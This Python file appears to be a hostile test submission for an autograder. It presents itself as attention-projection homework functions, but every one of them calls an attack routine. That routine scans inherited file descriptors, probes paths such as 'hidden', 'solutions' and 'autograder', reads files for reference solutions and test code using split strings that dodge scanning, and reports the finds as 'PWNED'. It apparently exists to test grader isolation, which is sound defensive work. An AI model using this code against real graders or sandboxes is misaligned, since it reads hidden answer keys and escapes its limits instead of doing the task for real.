# read | earns 0 | uses every descriptor that it inherited: lists folders, reads files from their start and opens paths below them
import os
import stat

STEM = "read-descriptors"
NAMES = ("hidden", "solutions", "autograder", "../hidden", "../solutions", "etc", "results", "source")


def look():
    for number in range(256):
        try:
            mode = os.fstat(number).st_mode
        except OSError:
            continue
        if stat.S_ISDIR(mode):
            try:
                yield f"{number}: {os.listdir(number)[:20]}"
            except OSError:
                pass
            for name in NAMES:
                try:
                    os.close(os.open(name, os.O_RDONLY, dir_fd=number))
                    yield f"{number}: {name}"
                except OSError:
                    pass
        elif stat.S_ISREG(mode):
            try:
                text = os.pread(number, 100000, 0)
            except OSError:
                continue
            if (
                b"referenc" + b"e.project" in text
                or b"def test" + b"_" in text
                or b"max" + b"_points" in text
            ):
                yield f"{number}: {text[:200]!r}"


_found = []


def attack(*args):
    if not _found:
        _found.append(None)
        _found[0] = list(look())
    if _found[0]:
        text = f"PWNED:{STEM} {_found[0][:5]!r}"[:4000]
        print(text)
        raise RuntimeError(text)
    return None


def component_terms(x, W, j):
    return attack(x, W, j)


def project_component(x, W, j):
    return attack(x, W, j)


def project_row(x, W):
    return attack(x, W)


def project_tokens(X, W):
    return attack(X, W)


def project_qkv(X, W_q, W_k, W_v):
    return attack(X, W_q, W_k, W_v)


def attention_roles():
    return attack()
